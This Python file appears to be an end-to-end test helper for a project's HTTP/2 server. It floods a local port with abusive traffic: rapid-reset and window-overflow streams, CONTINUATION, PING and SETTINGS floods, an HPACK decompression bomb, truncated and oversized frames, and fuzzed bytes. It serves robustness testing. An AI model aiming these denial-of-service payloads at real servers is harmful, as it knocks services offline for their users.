"""Connections that break or abuse HTTP/2 in every known way; run as a process of its own beside honest clients.

`python -m tests.e2e.hostile_peers PORT SECONDS CONNECTIONS METHOD` attacks until the time is over and prints the number
of connections it has made.
"""

from __future__ import annotations

import contextlib
import random
import socket
import struct
import sys
import threading
import time
from collections.abc import Callable

from mesh.http2 import frame_format as wire
from mesh.http2.frame_format import PREFACE, Setting, frame_header, settings_frame
from mesh.http2.hpack_encoder import encode_fields

HELLO = PREFACE + settings_frame({})
MESSAGE = b"\0\0\0\0\x04\x0a\x02ab"
READ_TIMEOUT_S = 0.2


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    return frame_header(len(payload), kind, flags, stream_id) + payload


def request(method: str) -> bytes:
    return encode_fields(
        [
            (b":method", b"POST"),
            (b":scheme", b"http"),
            (b":path", method.encode()),
            (b":authority", b"victim"),
            (b"te", b"trailers"),
            (b"content-type", b"application/grpc"),
            (b"application", b"hostile"),
        ]
    )


class Attacks:
    """What one connection sends; each returns the bytes."""

    def __init__(self, method: str, dice: random.Random) -> None:
        self._block = request(method)
        self._dice = dice

    def call(self, stream_id: int) -> bytes:
        return frame(wire.HEADERS, wire.END_HEADERS, stream_id, self._block) + frame(
            wire.DATA, wire.END_STREAM, stream_id, MESSAGE
        )

    def reset(self, stream_id: int) -> bytes:
        return frame(wire.RST_STREAM, 0, stream_id, struct.pack(">L", 8))

    def rapid_reset(self) -> bytes:
        return HELLO + b"".join(self.call(number) + self.reset(number) for number in range(1, 1001, 2))

    def made_you_reset(self) -> bytes:
        overflow = struct.pack(">L", 2**31 - 1)
        return HELLO + b"".join(
            self.call(number) + frame(wire.WINDOW_UPDATE, 0, number, overflow) for number in range(1, 1001, 2)
        )

    def closed_window(self) -> bytes:
        return PREFACE + settings_frame({Setting.INITIAL_WINDOW_SIZE: 0}) + b"".join(map(self.call, range(1, 401, 2)))

    def calls_without_reading(self) -> bytes:
        return HELLO + b"".join(map(self.call, range(1, 401, 2)))

    def continuation_flood(self) -> bytes:
        return HELLO + frame(wire.HEADERS, 0, 1, self._block) + frame(wire.CONTINUATION, 0, 1, b"\0\x01a\x01b") * 2000

    def ping_flood(self) -> bytes:
        return HELLO + frame(wire.PING, 0, 0, bytes(8)) * 3000

    def settings_flood(self) -> bytes:
        return HELLO + settings_frame({Setting.INITIAL_WINDOW_SIZE: 1000}) * 3000

    def empty_data_flood(self) -> bytes:
        return HELLO + frame(wire.HEADERS, wire.END_HEADERS, 1, self._block) + frame(wire.DATA, 0, 1) * 3000

    def window_flood(self) -> bytes:
        return HELLO + frame(wire.WINDOW_UPDATE, 0, 0, struct.pack(">L", 1)) * 3000

    def decompression_bomb(self) -> bytes:
        entry = b"\x40\x01a\x7f\xa1\x1e" + b"v" * 4000
        return HELLO + frame(wire.HEADERS, wire.END_HEADERS, 1, self._block + entry + b"\xbe" * 12_000)

    def half_a_request(self) -> bytes:
        return HELLO + b"".join(
            frame(wire.HEADERS, wire.END_HEADERS, number, self._block)
            + frame(wire.DATA, 0, number, b"\0\x00\x10\0\0ab")
            for number in range(1, 401, 2)
        )

    def half_a_header(self) -> bytes:
        return HELLO + frame(wire.HEADERS, 0, 1, self._block[:10])

    def huge_frame(self) -> bytes:
        return HELLO + b"\xff\xff\xff\0\0\0\0\0\1" + bytes(1000)

    def wrong_names(self) -> bytes:
        blocks = (request(f"/shop.Shap/Prise{self._dice.random()}") for _ in range(100))
        return HELLO + b"".join(
            frame(wire.HEADERS, wire.END_HEADERS | wire.END_STREAM, 2 * number + 1, block)
            for number, block in enumerate(blocks)
        )

    def http_1(self) -> bytes:
        return b"GET / HTTP/1.1\r\nHost: victim\r\n\r\n" * 100

    def random_bytes(self) -> bytes:
        return self._dice.choice((b"", HELLO)) + self._dice.randbytes(5_000)

    def random_frames(self) -> bytes:
        return HELLO + b"".join(
            frame(
                self._dice.randrange(12),
                self._dice.randrange(256),
                self._dice.randrange(9),
                self._dice.randbytes(self._dice.randrange(60)),
            )
            for _ in range(200)
        )

    def mutated_calls(self) -> bytes:
        data = bytearray(b"".join(map(self.call, range(1, 101, 2))))
        for _ in range(20):
            data[self._dice.randrange(len(data))] = self._dice.randrange(256)
        return HELLO + bytes(data)


def attacks_of(attacks: Attacks) -> list[Callable[[], bytes]]:
    names = [name for name in vars(Attacks) if not name.startswith("_") and name not in ("call", "reset")]
    return [getattr(attacks, name) for name in names]


def attack(port: int, end_at_s: float, method: str, seed: int, made: list[int]) -> None:
    dice = random.Random(seed)
    kinds = attacks_of(Attacks(method, dice))
    while time.monotonic() < end_at_s:
        with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), timeout=5) as connection:
            made[0] += 1
            connection.settimeout(READ_TIMEOUT_S)
            connection.sendall(dice.choice(kinds)())
            if dice.random() < 0.5:
                while connection.recv(65_536):
                    pass
            elif dice.random() < 0.3:
                time.sleep(READ_TIMEOUT_S)  # open, and not reading


def main() -> None:
    port, seconds, connections, method = int(sys.argv[1]), float(sys.argv[2]), int(sys.argv[3]), sys.argv[4]
    made, end_at_s = [0], time.monotonic() + seconds
    threads = [
        threading.Thread(target=attack, args=(port, end_at_s, method, seed, made)) for seed in range(connections)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(made[0])


if __name__ == "__main__":
    main()
